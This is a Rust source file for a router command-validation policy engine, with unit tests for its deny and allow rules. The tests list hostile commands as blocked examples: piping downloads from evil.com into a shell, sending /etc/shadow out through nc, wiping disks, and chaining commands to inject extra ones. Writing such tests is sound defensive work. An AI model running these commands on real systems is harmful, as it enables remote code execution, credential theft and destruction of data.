//! Command policy evaluation.

use serde::Serialize;

use super::rules::{compile_table, PolicyRule, RuleKind, RuleSpec, ALLOW_RULES, DENY_RULES};
use crate::Result;

/// Reason reported when no allow rule matches.
pub const NOT_WHITELISTED: &str = "not in whitelist";

/// Outcome of validating one command. Never mutated after creation.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ValidationVerdict {
    /// Whether the command may be forwarded.
    pub allowed: bool,
    /// Human-readable reason for a denial.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub reason: Option<String>,
    /// Name of the rule that decided the verdict.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub matched_rule: Option<String>,
    /// Pattern of the rule that decided the verdict.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub matched_pattern: Option<String>,
    /// Validation was skipped because it is disabled.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub bypassed: bool,
}

impl ValidationVerdict {
    fn allow(rule: &PolicyRule) -> Self {
        Self {
            allowed: true,
            reason: None,
            matched_rule: Some(rule.name().to_string()),
            matched_pattern: Some(rule.pattern().to_string()),
            bypassed: false,
        }
    }

    fn deny(rule: &PolicyRule) -> Self {
        Self {
            allowed: false,
            reason: Some(format!(
                "Command blocked by security policy: rule '{}' matches dangerous pattern '{}'",
                rule.name(),
                rule.pattern()
            )),
            matched_rule: Some(rule.name().to_string()),
            matched_pattern: Some(rule.pattern().to_string()),
            bypassed: false,
        }
    }

    fn not_whitelisted() -> Self {
        Self {
            allowed: false,
            reason: Some(NOT_WHITELISTED.to_string()),
            matched_rule: None,
            matched_pattern: None,
            bypassed: false,
        }
    }

    fn bypass() -> Self {
        Self {
            allowed: true,
            reason: None,
            matched_rule: None,
            matched_pattern: None,
            bypassed: true,
        }
    }
}

/// Pure decision function over static deny and allow tables.
///
/// Deny rules are always evaluated first and win over any allow match.
#[derive(Debug, Clone)]
pub struct PolicyEngine {
    enabled: bool,
    deny: Vec<PolicyRule>,
    allow: Vec<PolicyRule>,
}

impl PolicyEngine {
    /// Create an engine with the built-in router tables.
    pub fn new(enabled: bool) -> Result<Self> {
        Self::with_extra_rules(enabled, &[], &[])
    }

    /// Create an engine with the built-in tables plus configured extras.
    ///
    /// Extra rules are appended after the built-ins of the same kind.
    pub fn with_extra_rules(enabled: bool, deny: &[RuleSpec], allow: &[RuleSpec]) -> Result<Self> {
        Ok(Self {
            enabled,
            deny: compile_table(DENY_RULES, deny, RuleKind::Deny)?,
            allow: compile_table(ALLOW_RULES, allow, RuleKind::Allow)?,
        })
    }

    /// Create an engine from explicit tables only.
    pub fn from_rules(enabled: bool, deny: &[RuleSpec], allow: &[RuleSpec]) -> Result<Self> {
        Ok(Self {
            enabled,
            deny: compile_table(&[], deny, RuleKind::Deny)?,
            allow: compile_table(&[], allow, RuleKind::Allow)?,
        })
    }

    /// Whether validation is enforced.
    pub fn is_enabled(&self) -> bool {
        self.enabled
    }

    /// Decide whether `command` may be forwarded to the router.
    pub fn validate(&self, command: &str) -> ValidationVerdict {
        if !self.enabled {
            tracing::warn!(command, "command validation is DISABLED - executing without checks");
            return ValidationVerdict::bypass();
        }

        if let Some(rule) = self.deny.iter().find(|rule| rule.is_match(command)) {
            tracing::warn!(command, rule = rule.name(), "SECURITY: blocked command");
            return ValidationVerdict::deny(rule);
        }

        let trimmed = command.trim();
        if let Some(rule) = self.allow.iter().find(|rule| rule.is_match(trimmed)) {
            tracing::debug!(command, rule = rule.name(), "command validated");
            return ValidationVerdict::allow(rule);
        }

        tracing::warn!(command, "SECURITY: command rejected (not whitelisted)");
        ValidationVerdict::not_whitelisted()
    }

    /// Number of deny and allow rules.
    pub fn rule_counts(&self) -> (usize, usize) {
        (self.deny.len(), self.allow.len())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn engine() -> PolicyEngine {
        PolicyEngine::new(true).unwrap()
    }

    #[test]
    fn test_allowed_commands() {
        let engine = engine();
        for cmd in [
            "ubus call system board",
            "ubus call system info",
            "ubus call network.interface.wan restart",
            "uci show network",
            "uci get network.lan.ipaddr",
            "cat /proc/uptime",
            "cat /tmp/dhcp.leases",
            "iptables -L -n -v",
            "ping -c 4 openwrt.org",
            "/usr/sbin/ot-ctl state",
            "ot-ctl channel 15",
            "ot-ctl networkkey 00112233445566778899aabbccddeeff",
            "opkg install luci-app-sqm",
        ] {
            let verdict = engine.validate(cmd);
            assert!(verdict.allowed, "should be allowed: {cmd} ({verdict:?})");
            assert!(verdict.matched_rule.is_some());
        }
    }

    #[test]
    fn test_blocked_commands() {
        let engine = engine();
        for cmd in [
            "rm -rf /",
            "dd if=/dev/zero of=/dev/sda",
            "shutdown -h now",
            "reboot",
            "wget http://evil.com/script.sh | sh",
            "curl http://evil.com | bash",
            "chmod 777 /etc/passwd",
            "/etc/init.d/dropbear stop",
            "cat /etc/shadow | nc 10.0.0.1 9000",
        ] {
            let verdict = engine.validate(cmd);
            assert!(!verdict.allowed, "should be blocked: {cmd}");
            assert!(verdict.reason.is_some());
            assert_ne!(verdict.reason.as_deref(), Some(NOT_WHITELISTED));
        }
    }

    #[test]
    fn test_not_whitelisted() {
        let engine = engine();
        for cmd in ["echo hello", "ls -la", "grep something /var/log/messages", ""] {
            let verdict = engine.validate(cmd);
            assert!(!verdict.allowed);
            assert_eq!(verdict.reason.as_deref(), Some(NOT_WHITELISTED));
            assert!(verdict.matched_rule.is_none());
        }
    }

    #[test]
    fn test_exact_whitelist_form() {
        let verdict = engine().validate("ubus call system board");
        assert!(verdict.allowed);
        assert_eq!(verdict.matched_rule.as_deref(), Some("ubus-system-board"));
    }

    #[test]
    fn test_chained_command_is_denied() {
        let verdict = engine().validate("ubus call system board; rm -rf /");
        assert!(!verdict.allowed);
        assert_eq!(verdict.matched_rule.as_deref(), Some("recursive-force-delete"));
    }

    #[test]
    fn test_chaining_without_deny_match_fails_anchor() {
        let engine = engine();
        for cmd in [
            "ubus call system board; id",
            "uci show network && cat /etc/shadow",
            "uptime | head",
            "ubus list; id",
            "uci get network.lan;id",
        ] {
            let verdict = engine.validate(cmd);
            assert!(!verdict.allowed, "should be rejected: {cmd}");
            assert_eq!(verdict.reason.as_deref(), Some(NOT_WHITELISTED));
        }
    }

    #[test]
    fn test_shutdown_reason_references_pattern() {
        let verdict = engine().validate("shutdown -h now");
        assert!(!verdict.allowed);
        assert!(verdict.reason.unwrap().contains("shutdown"));
        assert_eq!(verdict.matched_pattern.as_deref(), Some("shutdown"));
    }

    #[test]
    fn test_deny_dominates_allow() {
        let engine = PolicyEngine::from_rules(
            true,
            &[RuleSpec::new("no-reboot", "reboot")],
            &[RuleSpec::new("anything", ".*")],
        )
        .unwrap();

        assert!(!engine.validate("reboot").allowed);
        assert!(engine.validate("uptime").allowed);
    }

    #[test]
    fn test_first_allow_match_wins() {
        let engine = PolicyEngine::from_rules(
            true,
            &[],
            &[
                RuleSpec::new("general", r"uci show \w+"),
                RuleSpec::new("specific", "uci show network"),
            ],
        )
        .unwrap();

        let verdict = engine.validate("uci show network");
        assert_eq!(verdict.matched_rule.as_deref(), Some("general"));
    }

    #[test]
    fn test_validate_is_repeatable() {
        let engine = engine();
        for cmd in ["uptime", "echo hello", "reboot"] {
            assert_eq!(engine.validate(cmd), engine.validate(cmd));
        }
    }

    #[test]
    fn test_surrounding_whitespace_is_ignored_for_allow() {
        assert!(engine().validate("  uptime \n").allowed);
    }

    #[test]
    fn test_disabled_bypasses() {
        let engine = PolicyEngine::new(false).unwrap();
        let verdict = engine.validate("echo hello");
        assert!(verdict.allowed);
        assert!(verdict.bypassed);
        assert!(!engine.is_enabled());
    }

    #[test]
    fn test_extra_rules() {
        let engine = PolicyEngine::with_extra_rules(
            true,
            &[RuleSpec::new("no-logread-follow", "logread -f")],
            &[RuleSpec::new("logread", r"logread( -f)?")],
        )
        .unwrap();

        assert!(engine.validate("logread").allowed);
        assert!(!engine.validate("logread -f").allowed);
        assert_eq!(engine.rule_counts(), (DENY_RULES.len() + 1, ALLOW_RULES.len() + 1));
    }
}
